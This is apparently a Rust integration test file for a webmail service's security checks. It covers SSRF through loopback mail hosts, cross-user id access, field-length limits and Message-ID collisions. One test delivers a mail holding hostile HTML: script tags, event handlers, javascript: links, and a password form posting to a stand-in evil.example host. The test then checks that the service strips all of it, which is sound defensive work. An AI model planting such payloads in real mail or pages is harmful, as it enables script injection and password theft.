//! E-mail abuse cases against the real binary and the real Dovecot: mail servers on
//! private addresses (SSRF), hostile HTML in a delivered mail, other users' ids,
//! attachment indexes out of range and over-long fields.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{json, Value};

use crate::common::dovecot::{self, add_user};
use crate::common::*;
use crate::email::connect_account;

const PASSWORD: &str = "imap-safety-8Wd";

fn account(email: &str, imap_host: &str, smtp_host: &str) -> Value {
    json!({
        "email": email,
        "imap": {"host": imap_host, "port": dovecot::dovecot().port, "security": "none",
                 "username": email, "password": PASSWORD},
        "smtp": {"host": smtp_host, "port": mail::smtp().port, "security": "none"},
    })
}

/// Connects `email` and waits until its INBOX holds `threads` threads; returns the list.
async fn connect_and_wait(
    app: &TestApp,
    tok: &str,
    email: &str,
    threads: usize,
) -> (String, Value) {
    let a = connect_account(app, tok, account(email, "127.0.0.1", "127.0.0.1")).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let l = expect_json(app.get_auth("/api/email/threads", tok).await, 200).await;
        if l["threads"].as_array().is_some_and(|t| t.len() == threads) {
            return (a["id"].as_str().unwrap().to_owned(), l);
        }
        assert!(Instant::now() < deadline, "threads never arrived: {l}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test]
async fn mail_servers_on_private_addresses_are_refused_unless_allowed() {
    let app = TestApp::start_with_mail_and("[email]\nallow_private_hosts = false\n".into()).await;
    let user = app.sign_up("mail-ssrf").await;
    let tok = &user.access_token;
    let email = add_user("ssrf", PASSWORD);
    for (host, why) in [
        ("127.0.0.1", "loopback"),
        ("localhost", "a name resolving to loopback"),
        ("::1", "IPv6 loopback"),
        ("::ffff:127.0.0.1", "IPv4-mapped loopback"),
    ] {
        let e = expect_error(
            app.post_json(
                "/api/email/accounts",
                Some(tok),
                account(&email, host, "127.0.0.1"),
            )
            .await,
            400,
            "mail_host_not_allowed",
        )
        .await;
        let m = e["message"].as_str().unwrap();
        assert!(m.starts_with("imap.host"), "{why}: {e}");
        // The address the name resolved to is not told (no DNS oracle).
        assert!(!m.contains("resolves to"), "{why}: {e}");
        if host == "localhost" {
            assert!(!m.contains("127.0.0.1") && !m.contains("::1"), "{why}: {e}");
        }
    }
    // No encryption only to an allowed private host: a public one is refused before any
    // connection, naming the field.
    for field in ["imap", "smtp"] {
        let mut body = account(&email, "1.1.1.1", "1.1.1.1");
        body[if field == "imap" { "smtp" } else { "imap" }]["security"] = json!("tls");
        let e = expect_error(
            app.post_json("/api/email/accounts", Some(tok), body).await,
            400,
            "invalid_request",
        )
        .await;
        assert!(
            e["message"]
                .as_str()
                .unwrap()
                .starts_with(&format!("{field}.security")),
            "{e}"
        );
    }
    let listed = expect_json(app.get_auth("/api/email/accounts", tok).await, 200).await;
    assert_eq!(listed["accounts"], json!([]), "nothing stored");

    // Allowed by a CIDR list: the IMAP server on 127.0.0.1 passes, an SMTP host outside
    // the list is refused naming smtp.host.
    let app =
        TestApp::start_with_mail_and("[email]\nallow_private_hosts = [\"127.0.0.1/32\"]\n".into())
            .await;
    let user = app.sign_up("mail-ssrf-allowed").await;
    let tok = &user.access_token;
    let e = expect_error(
        app.post_json(
            "/api/email/accounts",
            Some(tok),
            account(&email, "127.0.0.1", "127.0.0.2"),
        )
        .await,
        400,
        "mail_host_not_allowed",
    )
    .await;
    assert!(
        e["message"].as_str().unwrap().starts_with("smtp.host"),
        "{e}"
    );
    let a = connect_account(&app, tok, account(&email, "127.0.0.1", "127.0.0.1")).await;
    assert_eq!(a["email"], email.as_str());
}

#[tokio::test]
async fn hostile_html_in_a_delivered_mail_is_served_sanitised() {
    let app = TestApp::start_with_mail().await;
    let user = app.sign_up("mail-html").await;
    let tok = user.access_token.clone();
    let email = add_user("html", PASSWORD);
    let html = r#"<p onclick="steal()">Hello <b>there</b></p>
<script>alert('script')</script>
<img src="https://images.example.org/logo.png" onerror="alert('img')" alt="logo">
<a href="javascript:alert('href')">bad link</a> <a href="https://example.org/ok">ok link</a>
<form action="https://evil.example/steal"><input name="pw" type="password"><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe>
<div style="color: red; position: fixed; background-image: url(https://evil.example/bg)">styled</div>
<svg><script>alert('svg')</script></svg>
<style>body { display: none }</style>
<object data="https://evil.example/x.swf"></object>"#;
    let raw = format!(
        "From: Mallory <mallory@example.org>\nTo: {email}\nSubject: Invoice\n\
         Message-ID: <hostile.{}@example.org>\nDate: Wed, 2 Jul 2025 12:00:00 +0000\n\
         MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=B\n\n\
         --B\nContent-Type: text/plain\n\nHello there\n--B\nContent-Type: text/html; charset=utf-8\n\n\
         {html}\n--B--\n",
        uuid::Uuid::new_v4().simple()
    );
    dovecot::deliver(&email, PASSWORD, "INBOX", &raw).await;
    let (_, list) = connect_and_wait(&app, &tok, &email, 1).await;
    let mid = list["threads"][0]["messageIds"][0].as_str().unwrap();
    let m = expect_json(
        app.get_auth(&format!("/api/email/messages/{mid}"), &tok)
            .await,
        200,
    )
    .await;
    let out = m["html"].as_str().expect("an html body");
    for kept in [
        "Hello <b>there</b>",
        r#"src="https://images.example.org/logo.png""#,
        r#"href="https://example.org/ok""#,
        "styled",
    ] {
        assert!(out.contains(kept), "{kept:?} should stay: {out}");
    }
    let lower = out.to_lowercase();
    for gone in [
        "<script",
        "alert(",
        "onclick",
        "onerror",
        "javascript:",
        "<form",
        "<input",
        "<button",
        "<iframe",
        "<object",
        "<style",
        "position",
        "url(",
        "evil.example",
    ] {
        assert!(!lower.contains(gone), "{gone:?} must be removed: {out}");
    }
    assert!(
        out.contains("noopener"),
        "links open without an opener: {out}"
    );
}

#[tokio::test]
async fn other_users_ids_out_of_range_indexes_and_over_long_fields_are_refused() {
    let app = TestApp::start_with_mail().await;
    let owner = app.sign_up("mail-abuse").await;
    let tok = owner.access_token.clone();
    let email = add_user("abuse", PASSWORD);
    let raw = format!(
        "From: Dana <dana@example.org>\nTo: {email}\nSubject: Menu\n\
         Message-ID: <menu.{}@example.org>\nDate: Wed, 2 Jul 2025 12:00:00 +0000\n\
         MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=XX\n\n\
         --XX\nContent-Type: text/plain\n\nMenu attached\n--XX\nContent-Type: text/csv\n\
         Content-Disposition: attachment; filename=menu.csv\n\nsoup,4\n--XX--\n",
        uuid::Uuid::new_v4().simple()
    );
    dovecot::deliver(&email, PASSWORD, "INBOX", &raw).await;
    let (account_id, list) = connect_and_wait(&app, &tok, &email, 1).await;
    let tid = list["threads"][0]["id"].as_str().unwrap().to_owned();
    let mid = list["threads"][0]["messageIds"][0]
        .as_str()
        .unwrap()
        .to_owned();
    let attachment = |i: &str| format!("/api/email/messages/{mid}/attachments/{i}");
    expect_json(
        app.get_auth(&format!("/api/email/messages/{mid}"), &tok)
            .await,
        200,
    )
    .await;

    // Attachment indexes that name nothing.
    for i in ["1", "7", "4294967295"] {
        expect_error(app.get_auth(&attachment(i), &tok).await, 404, "not_found").await;
    }
    for i in ["-1", "x", "4294967296"] {
        let resp = app.get_auth(&attachment(i), &tok).await;
        assert_eq!(resp.status(), 400, "index {i}");
        let body: Value = resp.json().await.unwrap();
        assert!(
            body["error"].is_string(),
            "a JSON error body for {i}: {body}"
        );
    }

    // Another user reaches none of it: 404 for every id of the owner.
    let other = app.sign_up("mail-abuse-other").await;
    let ot = &other.access_token;
    for path in [
        format!("/api/email/threads/{tid}"),
        format!("/api/email/messages/{mid}"),
        attachment("0"),
    ] {
        expect_error(app.get_auth(&path, ot).await, 404, "not_found").await;
    }
    let not_found = [
        app.send(
            Method::DELETE,
            &format!("/api/email/accounts/{account_id}"),
            Some(ot),
            None,
        )
        .await,
        app.send(
            Method::PUT,
            &format!("/api/email/threads/{tid}"),
            Some(ot),
            Some(json!({"action": "trash"})),
        )
        .await,
        app.post_json(
            "/api/email/compose",
            Some(ot),
            json!({"accountId": account_id, "to": ["a@example.org"], "subject": "x", "text": "y"}),
        )
        .await,
        app.post_json(
            "/api/email/compose",
            Some(ot),
            json!({"to": ["a@example.org"], "subject": "x", "text": "y", "forward": mid}),
        )
        .await,
        app.post_json(
            "/api/email/labels",
            Some(ot),
            json!({"name": "Mine", "accountId": account_id}),
        )
        .await,
    ];
    for resp in not_found {
        expect_error(resp, 404, "not_found").await;
    }
    // The owner's mail is untouched by all that.
    let t = expect_json(
        app.get_auth(&format!("/api/email/threads/{tid}"), &tok)
            .await,
        200,
    )
    .await;
    assert_eq!(t["labels"], json!(["INBOX"]));

    // A personal token never reaches the account routes, even with the owner's ids.
    let pat = personal_token(&app, &owner).await;
    for resp in [
        app.get_auth("/api/email/accounts", &pat).await,
        app.post_json(
            "/api/email/accounts",
            Some(&pat),
            account(&email, "127.0.0.1", "127.0.0.1"),
        )
        .await,
        app.send(
            Method::DELETE,
            &format!("/api/email/accounts/{account_id}"),
            Some(&pat),
            None,
        )
        .await,
    ] {
        expect_error(resp, 403, "forbidden_for_api_token").await;
    }

    over_long_fields_are_refused_naming_the_field(&app, &tok, &email).await;
}

/// Over-long fields: 400 naming the field, before anything reaches a server; nothing more
/// is stored.
async fn over_long_fields_are_refused_naming_the_field(app: &TestApp, tok: &str, email: &str) {
    let long = |n: usize| "x".repeat(n);
    let mut too_long_name = account(email, "127.0.0.1", "127.0.0.1");
    too_long_name["displayName"] = json!(long(256));
    let mut too_long_host = account(email, "127.0.0.1", "127.0.0.1");
    too_long_host["imap"]["host"] = json!(format!("{}.example.org", long(250)));
    let mut too_long_user = account(email, "127.0.0.1", "127.0.0.1");
    too_long_user["smtp"]["username"] = json!(long(321));
    let mut too_long_password = account(email, "127.0.0.1", "127.0.0.1");
    too_long_password["imap"]["password"] = json!(long(1025));
    let cases = [
        ("/api/email/accounts", too_long_name, "displayName"),
        ("/api/email/accounts", too_long_host, "imap.host"),
        ("/api/email/accounts", too_long_user, "smtp.username"),
        ("/api/email/accounts", too_long_password, "imap.password"),
        ("/api/email/labels", json!({"name": long(201)}), "name"),
        (
            "/api/email/signatures",
            json!({"name": long(101), "text": "x"}),
            "name",
        ),
        (
            "/api/email/signatures",
            json!({"name": "n", "text": long(10_001)}),
            "text",
        ),
        (
            "/api/email/compose",
            json!({"to": ["a@example.org"], "subject": long(999), "text": "y"}),
            "subject",
        ),
    ];
    for (path, body, field) in cases {
        let e = expect_error(
            app.post_json(path, Some(tok), body).await,
            400,
            "invalid_request",
        )
        .await;
        assert!(
            e["message"].as_str().unwrap().contains(field),
            "{path} {field}: {e}"
        );
    }
    for query in [format!("q={}", long(201)), format!("label={}", long(1001))] {
        expect_error(
            app.get_auth(&format!("/api/email/threads?{query}"), tok)
                .await,
            400,
            "invalid_request",
        )
        .await;
    }
    let listed = expect_json(app.get_auth("/api/email/accounts", tok).await, 200).await;
    assert_eq!(
        listed["accounts"].as_array().unwrap().len(),
        1,
        "nothing more stored"
    );
}

#[tokio::test]
async fn a_reused_message_id_does_not_replace_another_senders_mail() {
    let app = TestApp::start_with_mail().await;
    let user = app.sign_up("mail-collision").await;
    let tok = user.access_token.clone();
    let email = add_user("collision", PASSWORD);
    let mid = format!("<taken.{}@example.org>", uuid::Uuid::new_v4().simple());
    for (from, subject, text) in [
        (
            "Alice <alice@example.org>",
            "Quarterly figures",
            "The real figures",
        ),
        (
            "Mallory <mallory@example.org>",
            "Quarterly figures (fixed)",
            "Pay to my account",
        ),
    ] {
        let raw = format!(
            "From: {from}\nTo: {email}\nSubject: {subject}\nMessage-ID: {mid}\n\
             Date: Wed, 2 Jul 2025 12:00:00 +0000\n\n{text}\n"
        );
        dovecot::deliver(&email, PASSWORD, "INBOX", &raw).await;
    }
    let (_, list) = connect_and_wait(&app, &tok, &email, 2).await;
    let mut texts = Vec::new();
    for t in list["threads"].as_array().unwrap() {
        let id = t["messageIds"][0].as_str().unwrap();
        let m = expect_json(
            app.get_auth(&format!("/api/email/messages/{id}"), &tok)
                .await,
            200,
        )
        .await;
        texts.push((
            m["from"]["email"].clone(),
            m["text"].as_str().unwrap().trim().to_owned(),
        ));
    }
    texts.sort_by_key(|(f, _)| f.to_string());
    assert_eq!(
        texts,
        vec![
            (json!("alice@example.org"), "The real figures".to_owned()),
            (json!("mallory@example.org"), "Pay to my account".to_owned()),
        ]
    );
}

#[tokio::test]
async fn mail_over_max_message_mb_is_cached_partially_and_marked() {
    let app = TestApp::start_with_mail_and("[email]\nmax_message_mb = 1\n".into()).await;
    let user = app.sign_up("mail-large").await;
    let tok = user.access_token.clone();
    let email = add_user("large", PASSWORD);
    let line = "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuv\n";
    let big = format!("BEGINNING {}END", line.repeat(2 * 1024 * 1024 / line.len()));
    let raw = format!(
        "From: Big <big@example.org>\nTo: {email}\nSubject: Large\n\
         Message-ID: <large.{}@example.org>\nDate: Wed, 2 Jul 2025 12:00:00 +0000\n\n{big}\n",
        uuid::Uuid::new_v4().simple()
    );
    dovecot::deliver(&email, PASSWORD, "INBOX", &raw).await;
    let small = format!(
        "From: Small <small@example.org>\nTo: {email}\nSubject: Small\n\
         Message-ID: <small.{}@example.org>\nDate: Wed, 2 Jul 2025 12:01:00 +0000\n\nshort\n",
        uuid::Uuid::new_v4().simple()
    );
    dovecot::deliver(&email, PASSWORD, "INBOX", &small).await;
    let (_, list) = connect_and_wait(&app, &tok, &email, 2).await;
    for t in list["threads"].as_array().unwrap() {
        let id = t["messageIds"][0].as_str().unwrap();
        let m = expect_json(
            app.get_auth(&format!("/api/email/messages/{id}"), &tok)
                .await,
            200,
        )
        .await;
        let text = m["text"].as_str().unwrap();
        if m["subject"] == "Large" {
            assert_eq!(m["truncated"], true);
            assert!(text.starts_with("BEGINNING"), "the first part is kept");
            assert!(
                !text.contains("END") && text.len() <= 300 * 1024,
                "{}",
                text.len()
            );
        } else {
            assert_eq!(m["truncated"], false);
            assert_eq!(text.trim(), "short");
        }
    }
}
